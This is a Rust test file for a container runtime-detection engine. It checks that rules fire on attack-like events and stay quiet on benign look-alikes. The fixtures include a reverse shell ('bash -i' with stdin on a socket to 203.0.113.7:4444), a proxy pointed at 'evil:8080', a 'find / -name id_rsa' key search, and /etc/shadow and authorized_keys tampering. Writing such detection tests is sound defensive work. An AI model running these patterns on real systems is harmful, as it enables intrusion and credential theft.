        // Held by the authentication program when the watcher looked: LOW all the same.
        (
            "file_sensitive_file_opened_by_auth_program",
            by(fe("/etc/shadow", FileOp::Open, "secret"), "/usr/sbin/unix_chkpwd"),
        ),
        ("file_audit_config_modified", fe("/etc/rsyslog.conf", FileOp::Modify, "audit")),
        ("file_audit_config_modified", fe("/etc/audit/rules.d/a.rules", FileOp::Delete, "audit")),
        (
            "file_root_certificate_installed",
            fe("/usr/local/share/ca-certificates/x.crt", FileOp::Create, "ca"),
        ),
        ("file_root_certificate_installed", fe("/etc/ssl/certs/ca-certificates.crt", FileOp::Modify, "ca")),
        ("file_sensor_tampering", fe("/usr/local/bin/runwarden", FileOp::Rename, "sensor")),
        ("file_sensor_tampering", fe("/etc/runwarden/policies/a.yaml", FileOp::Delete, "sensor")),
        ("file_shell_profile_modified", fe("/etc/profile.d/zz.sh", FileOp::Create, "profile")),
        ("file_shell_profile_modified", by(fe("/root/.bashrc", FileOp::Modify, "profile"), "/bin/sh")),
        ("file_authorized_keys_modified", fe("/root/.ssh/authorized_keys", FileOp::Modify, "secret")),
        ("file_authorized_keys_modified", fe("/home/app/.ssh/authorized_keys2", FileOp::Create, "secret")),
    ]
}

/// (rule, look-alike file event it must stay quiet on)
fn file_negatives() -> Vec<(&'static str, FileEvent)> {
    vec![
        ("file_ld_preload_modified", fe("/etc/ld.so.preload", FileOp::Delete, "preload")),
        ("file_ld_preload_modified", fe("/etc/ld.so.cache", FileOp::Modify, "")),
        ("file_cron_modified", fe("/etc/cron.d/job", FileOp::Delete, "cron")),
        ("file_cron_modified", fe("/var/log/cron.log", FileOp::Modify, "")),
        ("file_pam_modified", fe("/etc/pam.d/sshd", FileOp::Open, "pam")),
        (
            "file_sensitive_file_opened",
            by(fe("/etc/shadow", FileOp::Open, "secret"), "/usr/sbin/unix_chkpwd"),
        ),
        (
            "file_sensitive_file_opened",
            by(fe("/root/.ssh/authorized_keys", FileOp::Open, "secret"), "/usr/sbin/sshd"),
        ),
        ("file_sensitive_file_opened", fe("/etc/shadow", FileOp::Modify, "secret")),
        ("file_sensitive_file_opened", after(fe("/etc/shadow", FileOp::Open, "secret"), &["passwd"])),
        (
            "file_sensitive_file_opened_by_auth_program",
            after(fe("/etc/shadow", FileOp::Open, "secret"), &["cat", "su"]),
        ),
        ("file_sensitive_file_opened_by_auth_program", fe("/etc/shadow", FileOp::Open, "secret")),
        (
            "file_sensitive_file_opened_by_auth_program",
            by(fe("/etc/shadow", FileOp::Open, "secret"), "/usr/bin/cat"),
        ),
        ("file_audit_config_modified", fe("/var/log/syslog", FileOp::Modify, "")),
        ("file_root_certificate_installed", fe("/etc/ssl/certs/old.pem", FileOp::Delete, "ca")),
        ("file_root_certificate_installed", fe("/app/certs/server.crt", FileOp::Create, "")),
        ("file_sensor_tampering", fe("/usr/local/bin/app", FileOp::Create, "executables")),
        ("file_sensor_tampering", fe("/tmp/app.log", FileOp::Modify, "")),
        ("file_shell_profile_modified", fe("/etc/profile", FileOp::Open, "profile")),
        ("file_shell_profile_modified", fe("/home/app/notes.txt", FileOp::Modify, "")),
        ("file_authorized_keys_modified", fe("/root/.ssh/authorized_keys", FileOp::Open, "secret")),
        ("file_authorized_keys_modified", fe("/etc/shadow", FileOp::Modify, "secret")),
    ]
}

#[test]
fn file_positives_fire_and_negatives_stay_quiet() {
    let mut e = engine();
    let mut failures = Vec::new();
    for (rule, event) in file_positives() {
        let got = fired_file(&mut e, &event);
        if !got.contains(rule) {
            failures.push(format!(
                "{rule} did not fire on {} {:?} (fired: {got:?})",
                event.path, event.operation
            ));
        }
    }
    for (rule, event) in file_negatives() {
        let got = fired_file(&mut e, &event);
        if got.contains(rule) {
            failures.push(format!("{rule} fired on benign {} {:?}", event.path, event.operation));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
    assert_eq!(e.eval_errors, 0, "conditions failed to evaluate");
}

#[test]
fn file_rules_never_fire_on_execs_nor_exec_rules_on_files() {
    let mut e = engine();
    for (_, event) in file_positives() {
        assert!(fired_file(&mut e, &event).iter().all(|r| r.starts_with("file_")));
    }
    for (_, event) in positives() {
        assert!(fired(&mut e, &event).iter().all(|r| !r.starts_with("file_")));
    }
    assert_eq!(e.eval_errors, 0);
}

#[test]
fn file_findings_follow_the_contract() {
    let mut e = engine();
    let f = e.evaluate_file(&by(fe("/etc/shadow", FileOp::Open, "secret"), "/usr/bin/cat"), Mode::Detect);
    let v = serde_json::to_value(&f[0]).unwrap();
    assert_eq!(v["category"], "Credential Access: Access Sensitive Files On Nodes");
    assert_eq!(v["severity"], "MEDIUM");
    assert_eq!(v["files"], serde_json::json!([{"path": "/etc/shadow", "operation": "OPEN"}]));
    assert_eq!(v["processes"][0]["pid"], 42);
    assert_eq!(v["processes"][0]["binary"]["path"], "/usr/bin/cat");
    assert_eq!(v["sourceProperties"]["sensor"], "inotify");
    assert_eq!(v["description"], "/etc/shadow was opened by cat (pid 42)");
    // Unknown process: no processes array, and the description says so.
    let f = e.evaluate_file(&fe("/etc/ld.so.preload", FileOp::Create, "preload"), Mode::Detect);
    let v = serde_json::to_value(&f[0]).unwrap();
    assert!(v.get("processes").is_none(), "{v}");
    assert_eq!(v["files"][0]["sha256"], "ab".repeat(32));
    assert_eq!(v["mitreAttack"]["primaryTechniques"][0], "T1574.006");
    assert!(v["description"].as_str().unwrap().contains("an unknown process"), "{v}");
}

#[test]
fn positives_fire() {
    let mut e = engine();
    let mut failures = Vec::new();
    for (rule, event) in positives() {
        let got = fired(&mut e, &event);
        if !got.contains(rule) {
            failures.push(format!("{rule} did not fire on {:?} (fired: {got:?})", event.args));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
    assert_eq!(e.eval_errors, 0, "conditions failed to evaluate");
}

#[test]
fn negatives_stay_quiet() {
    let mut e = engine();
    let mut failures = Vec::new();
    for (rule, event) in negatives() {
        let got = fired(&mut e, &event);
        if got.contains(rule) {
            failures.push(format!("{rule} fired on benign {:?}", event.args));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn every_rule_has_positive_and_negative_cases() {
    let policy = Policy::load(DEFAULT_FILES, &[]).unwrap();
    let mut pos: BTreeSet<&str> = positives().iter().map(|(r, _)| *r).collect();
    let mut neg: BTreeSet<&str> = negatives().iter().map(|(r, _)| *r).collect();
    pos.extend(file_positives().iter().map(|(r, _)| *r));
    neg.extend(file_negatives().iter().map(|(r, _)| *r));
    pos.extend(super::scan_tests::positives().iter().map(|c| c.rule));
    neg.extend(super::scan_tests::negatives().iter().map(|c| c.rule));
    pos.extend(super::tests_syscall::syscall_positives().iter().map(|(r, _)| *r));
    neg.extend(super::tests_syscall::syscall_negatives().iter().map(|(r, _)| *r));
    for r in &policy.rules {
        assert!(pos.contains(r.spec.id.as_str()), "rule {} has no positive case", r.spec.id);
        assert!(neg.contains(r.spec.id.as_str()), "rule {} has no negative case", r.spec.id);
    }
}

#[test]
fn proxy_present_at_start_is_allowed() {
    let mut e = engine();
    // The first exec is the workload's own start: its proxy is the deployed configuration.
    let start = env(ev("/usr/bin/python3", &["python3", "app.py"]), "HTTPS_PROXY", "http://corp:3128");
    assert!(!fired(&mut e, &start).contains("disallowed_proxy_env"));
    let same = env(ev("/usr/bin/curl", &["curl", "x"]), "HTTPS_PROXY", "http://corp:3128");
    assert!(!fired(&mut e, &same).contains("disallowed_proxy_env"));
    let changed = env(ev("/usr/bin/curl", &["curl", "x"]), "HTTPS_PROXY", "http://evil:8080");
    assert!(fired(&mut e, &changed).contains("disallowed_proxy_env"));
}

#[test]
fn findings_follow_the_contract() {
    let mut e = engine();
    let event = parent(
        stdin(ev("/usr/bin/bash", &["bash", "-i"]), socket()),
        "/usr/bin/python3",
        &["python3", "app.py"],
    );
    let findings = e.evaluate_exec(&event, Mode::Detect);
    let f = findings.iter().find(|f| f.category == "Reverse Shell").expect("reverse shell");
    let v = serde_json::to_value(f).unwrap();
    assert_eq!(v["severity"], "CRITICAL");
    assert_eq!(v["state"], "ACTIVE");
    assert_eq!(v["findingClass"], "THREAT");
    assert_eq!(v["action"], "ALERT");
    assert_eq!(v["rule"]["id"], "reverse_shell_stdio_socket");
    assert_eq!(v["rule"]["source"], "builtin");
    assert_eq!(v["mitreAttack"]["primaryTactic"], "EXECUTION");
    assert_eq!(v["mitreAttack"]["primaryTechniques"][0], "T1059.004");
    assert_eq!(v["processes"][0]["name"], "bash");
    assert_eq!(v["processes"][0]["pid"], 100);
    assert_eq!(v["processes"][0]["parentPid"], 50);
    assert_eq!(v["processes"][0]["args"], serde_json::json!(["bash", "-i"]));
    assert_eq!(v["processes"][0]["stdio"]["stdin"], format!("socket {REMOTE}"));
    assert_eq!(v["connections"][0]["destinationIp"], "203.0.113.7");
    assert_eq!(v["connections"][0]["destinationPort"], 4444);
    assert_eq!(v["connections"][0]["sourcePort"], 41234);
    assert_eq!(v["ancestors"][0]["binary"]["path"], "/usr/bin/python3");
    assert!(v["description"].as_str().unwrap().contains(REMOTE), "{}", v["description"]);
    assert_eq!(v["findingId"].as_str().unwrap().len(), 36);
    assert!(v["eventTime"].as_str().unwrap().ends_with('Z'));
    // Fields that do not apply are omitted, not filled with placeholders.
    assert!(v.get("files").is_none());
    assert!(v.get("externalUri").is_none(), "no sha256, no VirusTotal link");
    assert!(v["processes"][0].get("script").is_none());
}

#[test]
fn defaults_are_valid_and_quiet_on_an_entrypoint_chain() {
    let mut e = engine();
    // A typical web-app start: a shell entrypoint renders config and execs the server.
    let chain = [
        ev("/bin/sh", &["/bin/sh", "/docker-entrypoint.sh", "gunicorn", "app:app"]),
        parent(ev("/usr/bin/envsubst", &["envsubst"]), "/bin/dash", &["/bin/sh", "/docker-entrypoint.sh"]),
        parent(ev("/bin/sed", &["sed", "-i", "s/x/y/", "/app/config.ini"]), "/bin/dash", &["/bin/sh"]),
        parent(
            ev("/usr/bin/python3.11", &["python3", "/usr/local/bin/gunicorn", "app:app"]),
            "/bin/dash",
            &["/bin/sh"],
        ),
        parent(
            ev("/usr/bin/curl", &["curl", "-fsS", "http://127.0.0.1:8080/healthz"]),
            "/bin/dash",
            &["sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz"],
        ),
    ];
    for event in chain {
        let got = fired(&mut e, &event);
        assert!(got.is_empty(), "benign {:?} fired {got:?}", event.args);
    }
}

#[test]
fn descriptions_redact_values_not_the_rule_text() {
    let mut e = engine();
    let ev = ev("/usr/bin/find", &["find", "/", "-name", "id_rsa", "--password=hunter2"]);
    let f = e.evaluate_exec(&ev, Mode::Detect);
    let d = &f.iter().find(|f| f.rule.id == "search_private_keys_or_passwords").expect("fires").description;
    assert!(d.contains(": find / -name id_rsa"), "the command survives the rule's own 'passwords:': {d}");
    assert!(!d.contains("hunter2") && d.contains("[REDACTED]"), "a secret in the value is masked: {d}");
}

/// "Execution: Terminal Shell in Container" judges the terminal, not `-c`: the entrypoint and its children
/// during start-up are quiet (`docker run -it`), a shell on a pty further down fires, `-c` or not.
#[test]
fn terminal_shell_spares_only_the_entrypoint_and_its_start_up_children() {
    let tty = || Stdio::Tty { path: "/dev/pts/0".into() };
    let at = |pid: i32, ppid: i32, args: &[&str], secs: u64| {
        let mut e = stdin(ev("/bin/sh", args), tty());
        e.pid = pid;
        e.ppid = ppid;
        e.time = SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_000 + secs);
        e
    };
    let mut e = engine();
    assert!(!fired(&mut e, &at(10, 1, &["sh", "-c", "exec app"], 0)).contains("terminal_shell"));
    assert!(!fired(&mut e, &at(11, 10, &["sh", "-c", "setup"], 2)).contains("terminal_shell"));
    assert!(fired(&mut e, &at(12, 11, &["sh", "-i", "-c", "id"], 3)).contains("terminal_shell"));
    assert!(fired(&mut e, &at(13, 10, &["sh", "-c", "setup"], 60)).contains("terminal_shell"));
}
